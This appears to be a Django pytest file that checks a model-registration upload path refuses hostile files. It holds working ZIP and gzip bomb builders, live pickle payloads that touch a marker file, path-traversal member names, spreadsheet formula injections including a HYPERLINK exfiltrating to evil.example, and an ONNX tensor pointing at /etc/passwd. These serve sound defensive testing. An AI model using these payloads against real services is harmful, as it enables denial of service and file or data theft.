"""Bad uploads, through the paths a user takes: the registration form (an admin, logged in, CSRF enforced),
the `register_model` command and the Django admin. Each bad file is refused with a message that names
what is wrong and where, runs nothing, inflates nothing it should not, and stores nothing: no model, no
artifact, no dataset, no "model.registered" audit-log entry, no upload left in the temp directory.

tests/test_registration.py covers the registry itself (pickle payloads, untrusted skops types, tree
bounds, cell validation); this file covers what reaches it from outside, and the CSV exports.
"""
from __future__ import annotations

import csv
import functools
import gzip
import hashlib
import html
import io
import os
import pickle
import re
import struct
import time
import tracemalloc
import zipfile
import zlib
from datetime import timedelta
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import CommandError
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from audits.models import AuditLogEntry
from monitor.models import ModelArtifact, ReferenceDataset, RegisteredModel
from tests.factories import (
    FEATURES,
    csv_bytes,
    make_data,
    make_model,
    make_user,
    signal,
    skops_bytes,
)

pytestmark = pytest.mark.django_db

MiB = 2**20


# --- real inputs -----------------------------------------------------------------------------------------

@functools.cache
def good_skops() -> bytes:
    return skops_bytes()


MEMBERS = csv_bytes(*make_data(seed=1))
NONMEMBERS = csv_bytes(*make_data(seed=2))


def members_frame() -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(MEMBERS), dtype=str)


def onnx_bytes(*, n_features: int = 4) -> bytes:
    from skl2onnx import to_onnx
    from sklearn.linear_model import LogisticRegression

    X, y = make_data()
    X = X[:, :n_features]
    estimator = LogisticRegression(max_iter=500).fit(X, y)
    return to_onnx(estimator, X[:1].astype(np.float32), options={"zipmap": False}).SerializeToString()


def onnx_graph(nodes, *, initializers=(), opsets=(("", 17),)) -> bytes:
    from onnx import TensorProto, helper

    graph = helper.make_graph(
        nodes, "g", [helper.make_tensor_value_info("X", TensorProto.FLOAT, [None, 4])],
        [helper.make_tensor_value_info("probabilities", TensorProto.FLOAT, [None, 2])], initializer=list(initializers))
    return helper.make_model(graph, opset_imports=[helper.make_opsetid(d, v) for d, v in opsets]).SerializeToString()


class Touch:
    """Rebuilding one of these creates a file: proof that a loader ran code from the upload."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __getstate__(self) -> dict:
        return {"path": self.path}

    def __setstate__(self, state: dict) -> None:
        Path(state["path"]).touch()

    def __reduce__(self):
        return (Path.touch, (Path(self.path),))


def skops_with_attribute(value) -> bytes:
    """A fitted model that carries `value` as an attribute, saved with skops."""
    import skops.io as sio
    from sklearn.linear_model import LogisticRegression

    X, y = make_data()
    estimator = LogisticRegression(max_iter=500).fit(X, y)
    estimator.extra_ = value
    return sio.dumps(estimator)


# ZIP files written byte by byte, so a member's declared size can differ from what it inflates to.

def deflate_run(total: int, *, prefix: bytes = b"", fill: bytes = b" ") -> tuple[bytes, int, int]:
    """Raw deflate data that inflates to `prefix` + `total` bytes of `fill`, made without producing that output.

    Each 1 MiB block is compressed once (a full flush leaves no back-reference across blocks) and repeated:
    deflate's best ratio, about 1000:1. Returns the compressed bytes, the CRC-32 and the inflated size.
    """
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = compressor.compress(prefix) + compressor.flush(zlib.Z_FULL_FLUSH) if prefix else b""
    block = fill * MiB
    segment = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    assert compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH) == segment
    crc = zlib.crc32(prefix)
    for _ in range(total // MiB):
        crc = zlib.crc32(block, crc)
    return head + segment * (total // MiB) + compressor.flush(zlib.Z_FINISH), crc, len(prefix) + total // MiB * MiB


def build_zip(entries: list[tuple[str, int, bytes, int, int]]) -> bytes:
    """entries: (name, method, data as stored, crc, declared size). No data descriptors, no ZIP64."""
    body, directory = bytearray(), bytearray()
    for name, method, data, crc, size in entries:
        encoded = name.encode()
        offset = len(body)
        body += struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, method, 0, 0x21, crc, len(data), size, len(encoded), 0)
        body += encoded + data
        directory += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, method, 0, 0x21, crc, len(data), size,
                                 len(encoded), 0, 0, 0, 0, 0, offset) + encoded
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(directory), len(body), 0)
    return bytes(body + directory + end)


def skops_members() -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(good_skops())) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def skops_rebuilt(*, replace: dict | None = None, add: list | None = None) -> bytes:
    """The good skops file, member by member (stored), with some members replaced or added."""
    entries = [(name, zipfile.ZIP_STORED, data, zlib.crc32(data), len(data)) for name, data in skops_members().items()]
    entries = [(replace or {}).get(entry[0], entry) for entry in entries] + list(add or [])
    return build_zip(entries)


# --- the paths a user takes -------------------------------------------------------------------------------

@pytest.fixture
def upload_dir(settings, tmp_path) -> Path:
    """Every uploaded file goes to disk here (no in-memory uploads), so a left-over upload would show."""
    path = tmp_path / "upload-tmp"
    path.mkdir()
    settings.FILE_UPLOAD_TEMP_DIR = str(path)
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 0
    return path


def stored(upload_dir: Path) -> dict:
    return {
        "models": RegisteredModel.objects.count(), "artifacts": ModelArtifact.objects.count(),
        "datasets": ReferenceDataset.objects.count(),
        "registrations logged": AuditLogEntry.objects.filter(action="model.registered").count(),
        "upload files left": sorted(os.listdir(upload_dir)),
    }


EMPTY = {"models": 0, "artifacts": 0, "datasets": 0, "registrations logged": 0, "upload files left": []}


class Browser:
    """An admin in a browser: logged in, CSRF enforced, the token read from the form page itself."""

    def __init__(self) -> None:
        self.client = Client(enforce_csrf_checks=True)
        admin = make_user(role="admin")
        admin.is_staff = True  # the Django admin also wants staff status
        admin.save()
        self.client.force_login(admin)
        page = self.client.get(reverse("model-register")).content.decode()
        self.token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page).group(1)

    def register(self, *, artifact=("m.skops", None), members=("members.csv", MEMBERS),
                 nonmembers=("nonmembers.csv", NONMEMBERS), population=None, **fields):
        form = {"csrfmiddlewaretoken": self.token, "slug": "web", "name": "Web", "label_column": "label",
                "output_policy": "full", **fields}
        files = {"artifact": artifact, "members": members, "nonmembers": nonmembers, "population": population}
        if artifact and artifact[1] is None:
            files["artifact"] = (artifact[0], good_skops())
        for field, upload in files.items():
            if upload is not None:
                form[field] = SimpleUploadedFile(upload[0], upload[1])
        return self.client.post(reverse("model-register"), form)


@pytest.fixture
def browser(upload_dir) -> Browser:
    return Browser()


def refusal(response) -> tuple[dict[str, list[str]], list[dict]]:
    """The form's errors by field and the per-cell details; each error is also on the page the admin sees."""
    assert response.status_code == 400, response.status_code
    form = response.context["form"]
    errors = {field: list(messages) for field, messages in form.errors.items()}
    page = html.unescape(response.content.decode())
    for messages in errors.values():
        for message in messages:
            assert message in page
    return errors, getattr(form, "registration_details", [])


def command(tmp_path: Path, *, artifact: tuple[str, bytes] | None = ("m.skops", None), members=("members.csv", MEMBERS),
            nonmembers=("nonmembers.csv", NONMEMBERS), extra: tuple = ()) -> str:
    """Run register_model on files on disk; return what it reports (CommandError), or "" if it registered."""
    folder = tmp_path / "cli"
    folder.mkdir(exist_ok=True)
    arguments = ["register_model", "--slug", "cli", "--name", "CLI", "--label-column", "label", *extra]
    for option, upload in (("--artifact", artifact), ("--members", members), ("--nonmembers", nonmembers)):
        if upload is None:
            continue
        name, data = upload
        (folder / name).write_bytes(good_skops() if data is None else data)
        arguments += [option, str(folder / name)]
    try:
        call_command(*arguments, stdout=io.StringIO())
    except CommandError as exc:
        return str(exc)
    return ""


def peak_memory(action) -> tuple[object, int]:
    """Run `action`; return its result and the most memory Python held at once while it ran."""
    tracemalloc.start()
    try:
        result = action()
        return result, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


# --- artifacts: code in the file --------------------------------------------------------------------------

@pytest.mark.parametrize("kind", ["pickle-5", "pickle-0", "pickle-1", "joblib"])
def test_a_pickle_or_joblib_with_a_payload_is_refused_by_the_form_and_never_runs(browser, upload_dir, tmp_path, kind):
    marker = tmp_path / f"ran-{kind}"
    if kind.startswith("pickle"):
        data = pickle.dumps(Touch(str(marker)), protocol=int(kind[-1]))
    else:
        import joblib

        buffer = io.BytesIO()
        joblib.dump(Touch(str(marker)), buffer, compress=3)
        data = buffer.getvalue()
    errors, _ = refusal(browser.register(artifact=("model.pkl", data)))
    assert list(errors) == ["artifact"]
    assert "pickle" in errors["artifact"][0] and "executes code" in errors["artifact"][0]
    assert not marker.exists()
    assert stored(upload_dir) == EMPTY
    # The payload is live: loading the same bytes the usual way runs it.
    if kind == "joblib":
        import joblib

        joblib.load(io.BytesIO(data))
    else:
        pickle.loads(data)  # noqa: S301 (our own payload)
    assert marker.exists()


def test_a_pickle_with_a_payload_is_refused_by_the_command_and_never_runs(tmp_path, upload_dir):
    marker = tmp_path / "ran"
    message = command(tmp_path, artifact=("model.skops", pickle.dumps(Touch(str(marker)))))
    assert message.startswith("nothing was registered.\n--artifact: this is a pickle/joblib file")
    assert not marker.exists()
    assert stored(upload_dir) == EMPTY


@pytest.mark.parametrize(("value", "named"), [
    (eval, "builtins.eval"),
    (os.system, f"{os.system.__module__}.system"),
    ("touch", "tests.test_upload_hardening.Touch"),
])
def test_a_skops_file_naming_an_untrusted_type_is_refused_by_the_form(browser, upload_dir, tmp_path, value, named):
    marker = tmp_path / "ran"
    data = skops_with_attribute(Touch(str(marker)) if value == "touch" else value)
    errors, _ = refusal(browser.register(artifact=("model.skops", data)))
    assert errors == {"artifact": [f"the skops file contains types we do not trust, so it was not loaded: {named}"]}
    assert not marker.exists()
    assert stored(upload_dir) == EMPTY
    if value == "touch":  # the payload is live: trusting the type runs it
        import skops.io as sio

        sio.loads(data, trusted=sio.get_untrusted_types(data=data))
        assert marker.exists()


def test_a_skops_file_naming_an_untrusted_type_is_refused_by_the_command(tmp_path, upload_dir):
    message = command(tmp_path, artifact=("model.skops", skops_with_attribute(eval)))
    assert "--artifact: the skops file contains types we do not trust, so it was not loaded: builtins.eval" in message
    assert stored(upload_dir) == EMPTY


@pytest.mark.parametrize(("what", "phrase"), [
    ("text", "unrecognised artifact: expected a skops file (.skops) or an ONNX model (.onnx)"),
    ("zip header only", "damaged ZIP file"),
    ("cut in half", "damaged ZIP file"),
])
def test_a_skops_file_that_is_not_a_zip_is_refused(browser, upload_dir, what, phrase):
    data = {"text": b"this is not a zip, just text", "zip header only": b"PK\x03\x04" + bytes(200),
            "cut in half": good_skops()[: len(good_skops()) // 2]}[what]
    errors, _ = refusal(browser.register(artifact=("model.skops", data)))
    assert list(errors) == ["artifact"] and phrase in errors["artifact"][0]
    assert stored(upload_dir) == EMPTY


# --- artifacts: ZIP bombs and odd archives ----------------------------------------------------------------

def test_a_skops_zip_bomb_is_refused_unread(browser, upload_dir, settings):
    """1 MB that declares and inflates to 1 GiB: refused from the directory alone, without inflating it."""
    data, crc, size = deflate_run(2**30)
    bomb = skops_rebuilt(replace={"schema.json": ("schema.json", zipfile.ZIP_DEFLATED, data, crc, size)})
    assert len(bomb) < 2 * MiB and size == 2**30
    started = time.perf_counter()
    response, peak = peak_memory(lambda: browser.register(artifact=("model.skops", bomb)))
    errors, _ = refusal(response)
    members = skops_members()
    before = list(members)[: list(members).index("schema.json")]  # the directory keeps the skops file's order
    declared = sum(len(members[name]) for name in before) + 2**30
    assert errors == {"artifact": [
        f"the ZIP file unpacks to more than {settings.ARTIFACT_MAX_BYTES:,} bytes (ARTIFACT_MAX_BYTES): its members "
        f"declare {declared:,} bytes up to 'schema.json' ({2**30:,}); a ZIP bomb is refused unread"]}
    assert peak < 64 * MiB, f"{peak / MiB:.0f} MiB held: the bomb was inflated"
    assert time.perf_counter() - started < 5
    assert stored(upload_dir) == EMPTY


def test_a_skops_zip_bomb_that_lies_about_its_size_is_refused_without_inflating_it(browser, upload_dir):
    """schema.json declares its real 8 KB but inflates to 1 GiB more: zipfile.read would inflate all of it
    in one call before cutting it to size (and skops would then load the model as if nothing happened)."""
    schema = skops_members()["schema.json"]
    data, _, _ = deflate_run(2**30, prefix=schema)
    liar = ("schema.json", zipfile.ZIP_DEFLATED, data, zlib.crc32(schema), len(schema))
    bomb = skops_rebuilt(replace={"schema.json": liar})
    response, peak = peak_memory(lambda: browser.register(artifact=("model.skops", bomb)))
    errors, _ = refusal(response)
    assert errors == {"artifact": [f"the ZIP member 'schema.json' inflates to more than the {len(schema):,} bytes "
                                   "it declares; a ZIP bomb is refused"]}
    assert peak < 64 * MiB, f"{peak / MiB:.0f} MiB held: the bomb was inflated"
    assert stored(upload_dir) == EMPTY


def test_a_member_compressed_past_any_real_ratio_is_refused(browser, upload_dir):
    """150 MiB in 150 KB fits the size limit, but no model array compresses 1000:1."""
    data, crc, size = deflate_run(150 * MiB, fill=b"\0")
    padded = skops_rebuilt(add=[("pad.npy", zipfile.ZIP_DEFLATED, data, crc, size)])
    errors, _ = refusal(browser.register(artifact=("model.skops", padded)))
    ratio = size / len(data)
    assert errors == {"artifact": [f"the ZIP member 'pad.npy' is compressed {ratio:,.0f}:1 ({len(data):,} bytes to "
                                   f"{size:,}); more than 200:1 is refused as a ZIP bomb"]}
    assert stored(upload_dir) == EMPTY


@pytest.mark.parametrize("name", ["../../../tmp/evil.sh", "/etc/cron.d/evil", "..\\..\\evil.bat", "C:/evil.bat"])
def test_a_zip_with_a_path_traversal_member_is_refused_naming_it(browser, upload_dir, name):
    evil = skops_rebuilt(add=[(name, zipfile.ZIP_STORED, b"echo owned", zlib.crc32(b"echo owned"), 10)])
    errors, _ = refusal(browser.register(artifact=("model.skops", evil)))
    assert errors == {"artifact": [f"the ZIP member {name!r} has an unsafe name (an absolute path, a drive, "
                                   "a backslash or '..'); the file was not read"]}
    assert not Path("/tmp/evil.sh").exists()
    assert stored(upload_dir) == EMPTY


def test_a_zip_member_in_another_compression_is_refused(browser, upload_dir):
    """bzip2 and LZMA members are inflated by zipfile in one call with no size bound at all."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in skops_members().items():
            archive.writestr(name, data, compress_type=zipfile.ZIP_BZIP2 if name == "schema.json" else zipfile.ZIP_STORED)
    errors, _ = refusal(browser.register(artifact=("model.skops", buffer.getvalue())))
    assert errors == {"artifact": ["the ZIP member 'schema.json' uses compression method 12 (bzip2); only stored "
                                   "and deflated members are accepted"]}
    assert stored(upload_dir) == EMPTY


@pytest.mark.parametrize("count_lies", [False, True])
def test_a_zip_with_too_many_members_is_refused(browser, upload_dir, count_lies):
    """zipfile makes one object per directory entry, reading the directory by its size, not by its count."""
    empty = [(f"{i}.npy", zipfile.ZIP_STORED, b"", 0, 0) for i in range(20_000)]
    crowded = skops_rebuilt(add=empty)
    if count_lies:  # the end record says 5 members; the directory holds 20,005
        crowded = crowded[:-14] + struct.pack("<2H", 5, 5) + crowded[-10:]
    errors, _ = refusal(browser.register(artifact=("model.skops", crowded)))
    directory = crowded[-10:-6]  # the end record: ... counts (2 x 2 bytes), directory size, offset, comment length
    expected = ("the ZIP file has 20,005 members; at most 10,000 are accepted" if count_lies else
                f"the ZIP file has 20,005 members in a {struct.unpack('<L', directory)[0]:,}-byte directory; "
                "at most 10,000 members and 4,194,304 bytes are accepted")
    assert errors == {"artifact": [expected]}
    assert stored(upload_dir) == EMPTY


def test_a_deflated_skops_forest_with_many_members_still_registers(browser, upload_dir):
    """The ZIP checks refuse bombs, not ordinary files: a compressed skops file of a 40-tree forest passes."""
    import skops.io as sio
    from sklearn.ensemble import RandomForestClassifier

    X, y = make_data(seed=1)
    data = sio.dumps(RandomForestClassifier(40, random_state=0).fit(X, y), compression=zipfile.ZIP_DEFLATED)
    assert len(zipfile.ZipFile(io.BytesIO(data)).infolist()) > 40
    response = browser.register(artifact=("forest.skops", data))
    assert response.status_code == 302
    assert RegisteredModel.objects.get(slug="web").current_artifact().sha256 == hashlib.sha256(data).hexdigest()


# --- artifacts: ONNX --------------------------------------------------------------------------------------

def test_random_bytes_named_onnx_are_refused(browser, upload_dir):
    data = np.random.default_rng(0).bytes(4096)
    errors, _ = refusal(browser.register(artifact=("model.onnx", data)))
    assert errors == {"artifact": ["unrecognised artifact: expected a skops file (.skops) or an ONNX model (.onnx)"]}
    assert stored(upload_dir) == EMPTY


@pytest.mark.parametrize("keep", [0.5, 0.9, 0.99])
def test_a_truncated_onnx_model_is_refused(browser, upload_dir, keep):
    data = onnx_bytes()
    errors, _ = refusal(browser.register(artifact=("model.onnx", data[: int(len(data) * keep)])))
    assert list(errors) == ["artifact"]
    assert errors["artifact"][0].startswith(("unrecognised artifact", "onnxruntime cannot load the ONNX model"))
    assert stored(upload_dir) == EMPTY


@pytest.mark.parametrize(("name", "content", "message"), [
    ("model.onnx", "skops", "the file is named 'model.onnx' but it is a skops file, not ONNX; rename it or upload the right file"),
    ("model.skops", "onnx", "the file is named 'model.skops' but it is an ONNX file, not skops; rename it or upload the right file"),
])
def test_a_file_whose_name_says_another_format_is_refused(browser, upload_dir, name, content, message):
    data = good_skops() if content == "skops" else onnx_bytes()
    errors, _ = refusal(browser.register(artifact=(name, data)))
    assert errors == {"artifact": [message]}
    assert stored(upload_dir) == EMPTY


def test_an_onnx_model_whose_input_does_not_match_the_csv_is_refused(browser, upload_dir):
    errors, details = refusal(browser.register(artifact=("model.onnx", onnx_bytes(n_features=3))))
    assert errors == {"members": ["the file has 4 feature columns; the model takes 3"]}
    assert details == [{"column": "age, income, tenure, score",
                        "message": "the feature columns found (label and id columns excluded)"}]
    assert stored(upload_dir) == EMPTY


@pytest.mark.parametrize(("op", "opsets", "phrase"), [
    ("EvilOp", (("", 17), ("com.evil", 1)), "com.evil:EvilOp(-1) is not a registered function/op"),
    ("NoSuchOp", (("", 17),), "No Op registered for NoSuchOp"),
])
def test_an_onnx_graph_with_an_unknown_op_is_refused(browser, upload_dir, op, opsets, phrase):
    from onnx import helper

    node = helper.make_node(op, ["X"], ["probabilities"], domain=opsets[-1][0])
    errors, _ = refusal(browser.register(artifact=("model.onnx", onnx_graph([node], opsets=opsets))))
    assert list(errors) == ["artifact"]
    assert errors["artifact"][0].startswith("onnxruntime cannot load the ONNX model") and phrase in errors["artifact"][0]
    assert stored(upload_dir) == EMPTY


@pytest.mark.parametrize("location", ["/etc/passwd", "secret.bin", "../../monitor/settings.py"])
def test_an_onnx_model_pointing_at_external_weight_files_is_refused(browser, upload_dir, location):
    """External data would make onnxruntime read a file on the server into the model's weights."""
    from onnx import TensorProto, helper

    weights = TensorProto(name="W", data_type=TensorProto.FLOAT, dims=[4, 2], data_location=TensorProto.EXTERNAL)
    for key, value in {"location": location, "offset": "0", "length": "32"}.items():
        weights.external_data.add(key=key, value=value)
    nodes = [helper.make_node("MatMul", ["X", "W"], ["Z"]), helper.make_node("Softmax", ["Z"], ["probabilities"], axis=1)]
    errors, _ = refusal(browser.register(artifact=("model.onnx", onnx_graph(nodes, initializers=[weights]))))
    assert errors == {"artifact": [f"the ONNX model keeps tensor 'W' in an external file ({location!r}); external "
                                   "data is refused: save the model with its weights inside the .onnx file"]}
    assert stored(upload_dir) == EMPTY


def test_onnx_refusals_through_the_command(tmp_path, upload_dir):
    noise = np.random.default_rng(1).bytes(3000)
    assert "--artifact: unrecognised artifact" in command(tmp_path, artifact=("m.onnx", noise))
    assert "--artifact: the file is named 'm.onnx' but it is a skops file" in command(tmp_path, artifact=("m.onnx", None))
    assert "--members: the file has 4 feature columns; the model takes 3" in command(
        tmp_path, artifact=("m.onnx", onnx_bytes(n_features=3)))
    assert stored(upload_dir) == EMPTY


# --- CSVs -------------------------------------------------------------------------------------------------

def frame_bytes(frame: pd.DataFrame) -> bytes:
    return frame.to_csv(index=False).encode()


def test_csv_with_wrong_columns_names_each_through_the_form(browser, upload_dir):
    """The model was fitted on an unnamed array, so the members file names the features; the others must match."""
    bad = frame_bytes(members_frame().rename(columns={"score": "colour"}))
    errors, details = refusal(browser.register(nonmembers=("nonmembers.csv", bad)))
    assert errors == {"nonmembers": ["the columns do not match the model's features"]}
    assert details == [{"column": "score", "message": "missing (the model expects it)"},
                       {"column": "colour", "message": "unexpected (not a feature of the model)"}]
    assert stored(upload_dir) == EMPTY


def test_csv_without_the_label_column_is_refused(browser, upload_dir):
    bad = frame_bytes(members_frame().drop(columns=["label"]))
    errors, details = refusal(browser.register(nonmembers=("nonmembers.csv", bad)))
    assert errors == {"nonmembers": ["the label column 'label' is missing"]}
    assert details == [{"column": "label", "message": "missing"}]
    assert stored(upload_dir) == EMPTY


def test_csv_repeating_a_column_name_is_refused_naming_it(browser, upload_dir):
    """pandas renames a second 'age' to 'age.1'; the message must name the column the file really has."""
    frame = members_frame()
    text = frame_bytes(frame).decode().replace("age,income", "age,age", 1)
    errors, details = refusal(browser.register(members=("members.csv", text.encode())))
    assert errors == {"members": ["duplicate column names"]}
    assert details == [{"column": "age", "message": "appears more than once"}]
    assert stored(upload_dir) == EMPTY


def test_formula_cells_in_number_columns_are_refused_with_row_and_column(browser, upload_dir):
    frame = members_frame()
    formulas = ["=cmd|' /C calc'!A0", "+SUM(1)", "@x", "-2+3", "=HYPERLINK(\"http://evil.example/?\"&A1)"]
    for row, value in enumerate(formulas):
        frame.loc[row, "income" if row % 2 else "age"] = value
    errors, details = refusal(browser.register(members=("members.csv", frame_bytes(frame))))
    assert errors == {"members": ["5 invalid cell(s)"]}
    # Column by column in the model's feature order, then row by row.
    assert details == [{"row": row + 1, "column": "age", "message": f"{formulas[row]!r} is not a number"} for row in (0, 2, 4)] + [
        {"row": row + 1, "column": "income", "message": f"{formulas[row]!r} is not a number"} for row in (1, 3)]
    assert stored(upload_dir) == EMPTY


def test_non_numeric_nan_and_infinite_cells_are_refused_with_row_and_column(browser, upload_dir):
    frame = members_frame()
    frame.loc[0, "score"], frame.loc[1, "score"], frame.loc[2, "score"] = "inf", "-Infinity", "NaN"
    frame.loc[3, "tenure"], frame.loc[4, "tenure"] = "1e999", "twelve"
    errors, details = refusal(browser.register(nonmembers=("nonmembers.csv", frame_bytes(frame))))
    assert errors == {"nonmembers": ["5 invalid cell(s)"]}
    assert details == [
        {"row": 4, "column": "tenure", "message": "'1e999' is not a finite number"},
        {"row": 5, "column": "tenure", "message": "'twelve' is not a number"},
        {"row": 1, "column": "score", "message": "'inf' is not a finite number"},
        {"row": 2, "column": "score", "message": "'-Infinity' is not a finite number"},
        {"row": 3, "column": "score", "message": "'NaN' is not a finite number"},
    ]
    assert stored(upload_dir) == EMPTY


@pytest.mark.parametrize(("data", "message"), [
    ("age,income,tenure,score,label\n1,2,3,4,no\n".encode("utf-16"),
     "the file is UTF-16 text; save it as UTF-8 CSV"),
    ("age,income,tenure,score,label\n1,2,3,4,no\n".encode("utf-16-be"),
     "the file is binary (it contains NUL bytes), not CSV text"),
    (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4, "the file is binary (it contains NUL bytes), not CSV text"),
    ("âge,income\n".encode("latin-1") + b"1,2\n", "the file is not UTF-8 text (byte 0 cannot be decoded)"),
    (b"age,income,tenure,score,label\n", "the file has a header but no data rows"),
    (b"\n \n", "the file is empty"),
])
def test_csv_that_is_not_utf8_text_or_has_no_rows_is_refused(browser, upload_dir, data, message):
    errors, _ = refusal(browser.register(members=("members.csv", data)))
    assert errors == {"members": [message]}
    assert stored(upload_dir) == EMPTY


def test_an_empty_csv_is_refused_by_the_form_and_the_command(browser, upload_dir, tmp_path):
    errors, _ = refusal(browser.register(members=("members.csv", b"")))
    assert errors == {"members": ["The submitted file is empty."]}
    assert "--members: the file is empty" in command(tmp_path, members=("members.csv", b""))
    assert stored(upload_dir) == EMPTY


def test_a_csv_with_a_byte_order_mark_and_crlf_registers(browser, upload_dir):
    data = b"\xef\xbb\xbf" + MEMBERS.replace(b"\n", b"\r\n")
    response = browser.register(members=("members.csv", data))
    assert response.status_code == 302, response.content.decode()[:2000]
    model = RegisteredModel.objects.get(slug="web")
    assert model.feature_names == FEATURES
    assert np.allclose(model.datasets.get(kind="members").load().X, make_data(seed=1)[0])
    assert stored(upload_dir)["upload files left"] == []


@pytest.mark.parametrize(("kind", "phrase"), [("gzip", "gzip-compressed"), ("zip", "a ZIP archive (or an Excel workbook)"),
                                              ("bzip2", "bzip2-compressed"), ("xz", "xz-compressed")])
def test_a_compressed_csv_is_refused_as_not_csv(browser, upload_dir, kind, phrase):
    import bz2
    import lzma

    if kind == "zip":
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("members.csv", MEMBERS)
        data = buffer.getvalue()
    else:
        data = {"gzip": gzip.compress, "bzip2": bz2.compress, "xz": lzma.compress}[kind](MEMBERS)
    errors, _ = refusal(browser.register(members=("members.csv", data)))
    assert errors == {"members": [f"the file is {phrase}, not CSV text; upload the plain .csv file"]}
    assert stored(upload_dir) == EMPTY


def test_a_gzip_bomb_csv_is_refused_without_inflating_it(browser, upload_dir):
    """The CSV path never decompresses: a gzip of 1 GiB of CSV rows is refused from its first bytes."""
    data, crc, size = deflate_run(2**30, prefix=b"age,income,tenure,score,label\n", fill=b"1")
    bomb = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + data + struct.pack("<2L", crc, size % 2**32)
    assert len(bomb) < 2 * MiB and zlib.decompressobj(31).decompress(bomb, 64).startswith(b"age,income,tenure")
    response, peak = peak_memory(lambda: browser.register(members=("members.csv", bomb)))
    errors, _ = refusal(response)
    assert errors == {"members": ["the file is gzip-compressed, not CSV text; upload the plain .csv file"]}
    assert peak < 64 * MiB
    assert stored(upload_dir) == EMPTY


def test_duplicate_and_empty_record_ids_are_refused_naming_their_rows(browser, upload_dir):
    frame = members_frame()
    frame.insert(0, "record", [f"r{i}" for i in range(len(frame))])
    frame.loc[5, "record"] = "r1"
    frame.loc[7, "record"] = " "
    errors, details = refusal(browser.register(members=("members.csv", frame_bytes(frame)), id_column="record"))
    assert errors == {"members": ["2 invalid record id(s) in column 'record'"]}
    assert details == [{"row": 6, "column": "record", "message": "'r1' repeats the id of row 2"},
                       {"row": 8, "column": "record", "message": "empty id"}]
    assert stored(upload_dir) == EMPTY


def test_formula_looking_record_ids_are_stored_as_data(browser, upload_dir):
    """Decision: text columns (record ids, labels) are identifiers the owner chose; '-1' or '@x' are legitimate
    ids, so they are stored exactly, and every CSV export escapes text cells instead (tests below)."""
    ids = ["=cmd|' /C calc'!A0", "+SUM(1)", "@x", "-2+3", "\tTAB"]
    frame = members_frame()
    frame.insert(0, "record", [f"r{i}" for i in range(len(frame))])
    frame.loc[: len(ids) - 1, "record"] = ids
    nonmembers = pd.read_csv(io.BytesIO(NONMEMBERS), dtype=str)
    nonmembers.insert(0, "record", [f"n{i}" for i in range(len(nonmembers))])
    response = browser.register(members=("members.csv", frame_bytes(frame)),
                                nonmembers=("nonmembers.csv", frame_bytes(nonmembers)), id_column="record")
    assert response.status_code == 302
    arrays = RegisteredModel.objects.get(slug="web").datasets.get(kind="members").load()
    assert arrays.record_ids[: len(ids)].tolist() == [i.strip() for i in ids]


# --- size limits ------------------------------------------------------------------------------------------

def test_the_configured_size_limits_refuse_uploads_through_the_form(browser, upload_dir, settings):
    settings.DATASET_MAX_BYTES = 2_000
    errors, _ = refusal(browser.register())
    assert errors == {
        "members": [f"the file is {len(MEMBERS):,} bytes; the limit is 2,000 bytes (DATASET_MAX_BYTES)"],
        "nonmembers": [f"the file is {len(NONMEMBERS):,} bytes; the limit is 2,000 bytes (DATASET_MAX_BYTES)"],
    }
    settings.DATASET_MAX_BYTES, settings.ARTIFACT_MAX_BYTES = 10 * MiB, 1_000
    errors, _ = refusal(browser.register())
    assert errors == {"artifact": [f"the file is {len(good_skops()):,} bytes; the limit is 1,000 bytes (ARTIFACT_MAX_BYTES)"]}
    assert stored(upload_dir) == EMPTY


def test_the_command_refuses_an_oversized_file_without_reading_it(tmp_path, upload_dir, settings):
    settings.DATASET_MAX_BYTES = MiB
    big = MEMBERS + MEMBERS.split(b"\n", 1)[1] * (24 * MiB // len(MEMBERS))
    message, peak = peak_memory(lambda: command(tmp_path, members=("members.csv", big)))
    assert message == (f"nothing was registered.\n--members: the file is {len(big):,} bytes; "
                       f"the limit is {MiB:,} bytes (DATASET_MAX_BYTES)")
    assert peak < 8 * MiB, f"{peak / MiB:.0f} MiB held for a {len(big) / MiB:.0f} MiB file"
    settings.ARTIFACT_MAX_BYTES = 1_000
    assert command(tmp_path, artifact=("m.skops", None)).endswith(
        f"--artifact: the file is {len(good_skops()):,} bytes; the limit is 1,000 bytes (ARTIFACT_MAX_BYTES)")
    assert stored(upload_dir) == EMPTY


def stream_registration(browser: Browser, folder: Path, *, members_size: int):
    """POST the registration form with a members CSV of `members_size` bytes or more, streamed from a file on
    disk through the real request handler (middleware, session, CSRF, multipart parser, form, view), as a
    server would: the test never holds the body in memory. Returns the response, the most memory Python
    held during the request, the CSV's size, and the bytes this process wrote (Linux, else None)."""
    boundary = "----upload-hardening-boundary"
    body = folder / "body"
    row = MEMBERS.split(b"\n")[1] + b"\n"
    with body.open("wb") as out:
        def part(name: str, value: str) -> None:
            out.write(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode())

        def file_header(name: str, filename: str) -> None:
            out.write(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; filename="{filename}"\r\n'
                      f"Content-Type: text/csv\r\n\r\n".encode())

        for name, value in {"csrfmiddlewaretoken": browser.token, "slug": "big", "name": "Big", "label_column": "label",
                            "output_policy": "full"}.items():
            part(name, value)
        file_header("artifact", "m.skops")
        out.write(good_skops() + b"\r\n")
